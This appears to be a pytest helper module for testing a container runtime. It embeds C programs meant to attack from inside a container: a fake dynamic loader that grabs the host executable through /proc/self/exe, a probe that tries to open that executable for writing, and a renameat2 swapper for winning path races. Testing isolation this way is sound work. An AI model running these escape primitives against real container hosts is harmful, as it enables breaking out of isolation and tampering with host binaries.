"""Programs that attack from inside a container."""

import shutil
import subprocess
from pathlib import Path

import pytest

OPENER_C = r"""
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>
/* Opens what descriptor 9 is for writing, as soon as nobody executes it, and leaves it as it is. */
int main(void) {
  struct stat file;
  fstat(9, &file);
  struct statvfs mount;
  fstatvfs(9, &mount);
  printf("file %lu %lu%s: ", file.st_dev, file.st_ino, mount.f_flag & ST_RDONLY ? " of a read-only mount" : "");
  for (int i = 0; i < 50; i++) {
    int fd = open("/proc/self/fd/9", O_WRONLY);
    if (fd >= 0) { puts("open for writing"); return 0; }
    if (errno != ETXTBSY) { puts(strerror(errno)); return 0; }
    usleep(1000);
  }
  puts("still busy");
  return 0;
}
"""
LOADER_C = r"""
/* Stands in the container where the interpreter looks for its dynamic loader, and so runs in its place. */
static long call(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
void _start(void) {
  static const char exe[] = "/proc/self/exe", opener[] = "/bin/opener";
  const char *arguments[] = {opener, 0};
  long fd = call(2, (long)exe, 0, 0);
  call(33, fd, 9, 0);
  call(59, (long)opener, (long)arguments, 0);
  call(60, 1, 0, 0);
}
"""
SWAPPER_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
/* Exchanges two names again and again. */
int main(int n, char **names) {
  write(1, "ready\n", 6);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, names[1], AT_FDCWD, names[2], 2);
}
"""


def compile_c(target: Path, source: str, *flags: str) -> Path:
    """The program at `target`."""
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc")
    subprocess.run(["gcc", "-O2", "-w", *flags, "-x", "c", "-o", target, "-"], input=source.encode(), check=True)
    return target
